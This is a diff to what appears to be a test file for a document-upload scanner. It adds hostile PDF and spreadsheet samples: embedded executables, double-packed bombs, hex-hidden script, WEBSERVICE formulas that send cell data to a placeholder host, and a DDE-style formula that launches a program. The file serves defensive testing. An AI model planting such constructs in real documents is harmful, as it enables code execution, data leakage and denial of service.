@@ -113,6 +113,13 @@ def locked():
     return bytes(data)
 
 
+def sheet(formula, tag="f", name="xl/worksheets/sheet1.xml"):
+    """An xlsx with one formula."""
+    return office("xl/workbook.xml", **{name: f"<x:a xmlns:x='n'><x:{tag} t='shared'>{formula}</x:{tag}></x:a>"})
+
+
+TWICE, HEX = b"/Filter [/FlateDecode /FlateDecode]", b"/Filter /ASCIIHexDecode"
+FILE_OF = b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>"
 ENTITIES = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><document>&b;</document>'
 MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
 ACTIVE, OUTSIDE, HIDDEN = "files.active_content", "files.external_content", "files.hidden_content"
@@ -131,7 +138,7 @@ HOSTILE = {
     # PDFs
     "script packed, led to": (lambda: pdf(packed(SCRIPT)), ACTIVE),
     "its key spelt otherwise": (lambda: pdf(packed(b"5 0 << /S /J#61vaScript >>")), ACTIVE),
-    "packed twice": (lambda: pdf(packed(SCRIPT, b"/Filter [/FlateDecode /FlateDecode]", times=2)), ACTIVE),
+    "packed twice": (lambda: pdf(packed(SCRIPT, TWICE, times=2)), ACTIVE),
     "encrypted pdf": (lambda: b"%PDF-1.7\ntrailer << /Encrypt 9 0 R >>\n%%EOF\n", HIDDEN),
     "pdf bomb": (lambda: pdf(packed(b"5 0 " + b" " * (33 << 20))), TOO_LARGE),
     "pdf with script": (lambda: b"%PDF-1.7\n/OpenAction << /JS (x) >>\n%%EOF\n", ACTIVE),
@@ -144,6 +151,19 @@ HOSTILE = {
     "pdf that acts on each page": (lambda: pdf(page=b"/AA << /O << /S /Named /N /Print >> >>"), ACTIVE),
     "pdf that sends a form": (lambda: pdf(b"<< /S /SubmitForm /F (http://x) >>"), ACTIVE),
     "pdf with a file in it": (lambda: pdf(stream(b"MZ", b"/Type /EmbeddedFile")), ACTIVE),
+    "pdf with a file pinned to its page": (
+        lambda: pdf(FILE_OF, stream(b"MZ"), page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]"),
+        ACTIVE,
+    ),
+    "pdf with a file of no type": (lambda: pdf(FILE_OF, stream(b"MZ")), ACTIVE),
+    "the same packed, not led to": (lambda: pdf(packed(b"5 0 << /F (a.exe) /E#46<</F 6 0 R>> >>")), ACTIVE),
+    "pdf to which files belong": (lambda: pdf(catalogue=b"/AF [4 0 R]"), ACTIVE),
+    "pdf with a scene that runs": (lambda: pdf(stream(b"x", b"/Subtype /U3D /OnInstantiate 5 0 R")), ACTIVE),
+    "pdf with a scene": (lambda: pdf(page=b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>]"), ACTIVE),
+    "pdf with a film": (lambda: pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), ACTIVE),
+    "pdf with the content of a film": (lambda: pdf(b"<< /RichMediaContent << /A 1 >> >>"), ACTIVE),
+    "pdf bomb packed twice": (lambda: pdf(packed(b"\x00" * 60_000_000, TWICE, times=2)), TOO_LARGE),
+    "pdf packed by other means": (lambda: pdf(packed(SCRIPT.hex().encode() + b">", HEX, times=0)), HARD),
     "pdf with a file behind a link": (lambda: pdf(b"<< /S /GoToE /T << /R /C >> >>"), ACTIVE),
     "pdf with a form of XML": (lambda: pdf(catalogue=b"/AcroForm << /XFA [] >>"), ACTIVE),
     "pdf that opens another": (lambda: pdf(b"<< /S /GoToR /F (\\\\host\\a.pdf) >>"), OUTSIDE),
@@ -186,6 +206,13 @@ HOSTILE = {
     "picture of the web": (lambda: office(**{"word/_rels/a.rels": rels(("image", "http://x/a.png", 1))}), OUTSIDE),
     "sheet of another sheet": (lambda: office("xl/workbook.xml", **{"xl/externalLinks/a.xml": "<x/>"}), OUTSIDE),
     "field that fetches": (lambda: office(**{"word/a.xml": text("INCLUDE", 'PICTURE "http://x/a.png"')}), OUTSIDE),
+    "sheet that asks the web": (lambda: sheet('_xlfn.WEBSERVICE("http://x/?"&amp;B1)'), OUTSIDE),
+    "sheet with a picture of the web": (lambda: sheet('1+_xlfn.IMAGE ("http://x/a.png")'), OUTSIDE),
+    "its function spelt otherwise": (lambda: sheet('"a"&amp;web&#83;ervice("http://x/")'), OUTSIDE),
+    "sheet that names what asks the web": (lambda: sheet('WEBSERVICE("http://x/")', tag="definedName"), OUTSIDE),
+    "sheet of a book elsewhere": (lambda: sheet("'\\\\host\\a\\[b.xlsx]S'!A1"), OUTSIDE),
+    "sheet that starts a program": (lambda: sheet("cmd|'/c calc'!A0"), ACTIVE),
+    "formula without end": (lambda: sheet("1+" * 40_000 + "1"), HARD),
     "entities": (lambda: office(**{"word/styles.xml": ENTITIES}), OUTSIDE),
     "entities in another alphabet": (lambda: office(**{"word/styles.xml": ENTITIES.encode("utf-16")}), OUTSIDE),
     "nested without end": (lambda: office(**{"word/a.xml": "<a>" * 5_000}), UNREADABLE),
@@ -196,7 +223,12 @@ HONEST = {
     "png": (lambda: picture("PNG"), "png"),
     "docx": (office, "docx"),
     "xlsx": (lambda: office("xl/workbook.xml"), "xlsx"),
+    "xlsx with formulas": (
+        lambda: sheet("SUM('汇 总'!A1:A9)&amp;\"IMAGE(a|b)\"&amp;表1[金额'[元']]&amp;HYPERLINK(A1)"),
+        "xlsx",
+    ),
     "pdf": (pdf, "pdf"),
+    "pdf with a face of letters": (lambda: pdf(b"<< /AFRelationship /Data /EFF 1 /AF 3 >>"), "pdf"),
     "pdf that begins on its page": (lambda: pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"), "pdf"),
     "pdf with a link": (
         lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://x) >> >>]"),
